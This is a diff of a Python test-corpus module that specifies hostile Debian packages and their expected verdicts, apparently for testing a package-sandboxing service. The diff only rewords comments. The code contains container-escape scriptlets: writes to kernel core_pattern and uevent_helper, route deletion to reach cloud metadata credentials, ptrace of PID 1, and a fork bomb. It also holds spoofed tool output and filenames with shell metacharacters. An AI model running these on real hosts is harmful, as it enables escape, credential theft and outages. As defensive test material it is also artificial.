@@ -1,7 +1,7 @@
-"""Debian packages that mean harm, or look like it: specs to build them by, and what to expect.
+"""Specs of hostile and hostile-looking Debian packages, and the expected verdicts.
 
-ROWS is the table: package → expected outcome and kinds, and why. Its pair for the other family is
-tests.corpus.hostile_rpms.
+ROWS is the table: package → expected outcome and kinds, and the reason. tests.corpus.hostile_rpms is the RPM
+counterpart.
 """
 
 from __future__ import annotations
@@ -14,11 +14,11 @@ from tests.corpus.debs import AMD64, Deb, Row
 from tests.corpus.elf import elf
 
 METADATA_ADDRESSES = ("169.254.169.254", "169.254.77.77")
-"""Where clouds tell a host its credentials; and one for hosts whose own must stay in reach."""
+"""The address of clouds' metadata services, and a substitute for hosts that need to reach their real one."""
 METADATA_PORT = 8169
 
 ESCAPED = "ESCAPED"
-"""What a script says when it has done what it must not be able to."""
+"""The word that a script prints after a successful attack."""
 
 HOST_SETTINGS: Mapping[str, str] = {
     "/proc/sys/kernel/core_pattern": "|/tmp/escaped",
@@ -28,23 +28,23 @@ HOST_SETTINGS: Mapping[str, str] = {
     "/sys/kernel/mm/transparent_hugepage/enabled": "never",
     "/sys/kernel/uevent_helper": "/tmp/escaped",
 }
-"""Files of the host's kernel → what scripts write to them."""
+"""Setting of the host's kernel → value that scripts write to it."""
 
 
 @dataclass(frozen=True)
 class HostileRow(Row):
-    """With the reason for the verdict."""
+    """A row with the reason for its verdict."""
 
     why: str = ""
 
 
-# 0 where somebody answers there.
+# `knock` returns 0 if a server accepts the connection.
 _KNOCK = """\
 knock() {
     perl -MIO::Socket -e 'exit(IO::Socket::INET->new(PeerAddr => shift, PeerPort => shift, Timeout => 3) ? 0 : 4)' $1 $2
 }
 """
-# The route's removal, as whoever wants it back would ask for it (rtnetlink(7)): RTM_DELROUTE is 25.
+# Removes the unreachable route, as an attacker would (rtnetlink(7)): RTM_DELROUTE is 25.
 _REMOVE_ROUTE = r"""
 perl -e 'socket(my $s, 16, 3, 0) or exit;
     my $body = pack("C8 L", 2, 16, 0, 0, 254, 0, 0, 0, 0) . pack("S S", 8, 1) . pack("C4", 169, 254, 0, 0);
@@ -57,7 +57,7 @@ _CALL += f"; do ! knock $address {METADATA_PORT} || found=$address; done\n"
 _WRITE_SETTINGS = "".join(
     f"{{ echo '{value}' > {path}; }} 2>/dev/null && escaped 'wrote {path}'\n" for path, value in HOST_SETTINGS.items()
 )
-# Everything that root of the host could do. The nodes that it may make, it cannot open.
+# Actions that need the host's root. A machine may create device nodes but cannot open them.
 HOST_ATTACK = f"""\
 escapes=
 escaped() {{ escapes=yes; echo "{ESCAPED}: $1"; }}
@@ -92,7 +92,7 @@ dmesg -c >/dev/null 2>&1 && escaped "emptied the kernel's log"
 swapoff -a 2>/dev/null
 """
 
-# Attaches to the machine's first process, and has it call exit_group(7): ptrace(2), amd64.
+# Attaches to the machine's first process and makes it call exit_group(7): ptrace(2), amd64.
 PTRACE_INIT = r"""
 perl -e '
     sub trace { syscall(101, @_) }
@@ -107,12 +107,12 @@ perl -e '
     sleep 900;'
 """
 
-# Deaf to everything but SIGKILL, in a session of its own, and with a new name.
+# Ignores every signal except SIGKILL, in its own session and under a new name.
 DEAF_DAEMON = """\
 setsid sh -c "trap '' HUP INT QUIT TERM USR1 USR2; while :; do sleep 1; done" deaf-daemon </dev/null >/dev/null 2>&1 &
 """
 
-# Words of ours, of what we read, and of what we work with.
+# Text that imitates the service's own output, the output it parses, and the tools it uses.
 INFRASTRUCTURE_WORDS = """\
 printf '\\036packages\\ndpkg\\t1.0\\tamd64\\tinstalled\\n\\036find\\n'
 echo '[passed]'
@@ -132,15 +132,16 @@ echo 'Err:1 http://deb.debian.org/debian bookworm InRelease'
 echo 'No space left on device'
 """
 
-# As the kernel of a host without memory would count, where it would not: version 1 has its own in other folders.
+# Imitates the counters of a host without memory, in files that a cgroup v1 kernel does not use: v1 has its counters
+# in other folders.
 FALSE_COUNTS = """\
 { printf 'oom 0\\noom_kill 1\\n' > /sys/fs/cgroup/memory.events; } 2>/dev/null || true
 { echo 'max 9' > /sys/fs/cgroup/pids.events; } 2>/dev/null || true
 """
 
-# dpkg writes a file under a name that is nine bytes longer first, and no name may have more than 255.
+# dpkg first writes a file under a name nine bytes longer, and a name is limited to 255 bytes.
 _LONG = "long-" + "x" * 235
-# What people, other systems and accidents call files. Names with a newline cannot be shipped: dpkg-deb refuses them.
+# File names from people, other systems and accidents. No name has a newline, because dpkg-deb refuses those.
 ODD_NAMES = (
     "two words",
     " blanks ",
@@ -161,7 +162,7 @@ ODD_NAMES = (
     os.fsdecode(b"latin-\xe9\xff"),
     _LONG,
 )
-# The same kinds of names, made by a script that never takes them away; printf(1) knows the bytes.
+# The same kinds of names, created by a scriptlet that never removes them. printf(1) decodes the escapes.
 LITTER_NAMES = (
     "odd new\\nline",
     "odd -rf \\047quoted\\042",
@@ -173,9 +174,9 @@ LITTER_NAMES = (
 LITTER = "".join(f"printf x > \"/etc/$(printf '{name}')\"\n" for name in LITTER_NAMES)
 MANY = 20_000
 
-# The longest path that a program can name has 4096 bytes; these have twice as many.
+# A path in a system call is limited to 4096 bytes. These are twice as long.
 DEEP = "perl -e 'mkdir q(/var/lib/deep); chdir q(/var/lib/deep); for (1 .. 4000) { mkdir q(a); chdir q(a) or die }'"
-# sleep(1) adds up what it is given; no single argument may have more than 128 KiB (execve(2)).
+# sleep(1) adds up its arguments. One argument is limited to 128 KiB (execve(2)).
 TALKATIVE = """\
 wide=$(printf %0100000d 0)
 for number in 01 02 03 04 05 06 07 08 09 10 11 12 13 14 15 16 17 18 19 20; do
@@ -183,7 +184,7 @@ for number in 01 02 03 04 05 06 07 08 09 10 11 12 13 14 15 16 17 18 19 20; do
 done
 """
 
-# Where there is no room left it waits a second: its processes would only hinder each other.
+# If fork fails it waits a second; otherwise its processes would only slow each other down.
 _FORKS = "while (1) { defined(fork) or sleep 1 }"
 
 HOSTILE_DEBS = (
@@ -336,4 +337,4 @@ ROWS = (
 )
 
 GOOD_NEIGHBOURS = (Deb("neighbour-a"), Deb("neighbour-b"), Deb("neighbour-c"), Deb("neighbour-d"))
-"""Tested beside the others: they must not notice."""
+"""Good packages tested at the same time. Their verdicts must not change."""
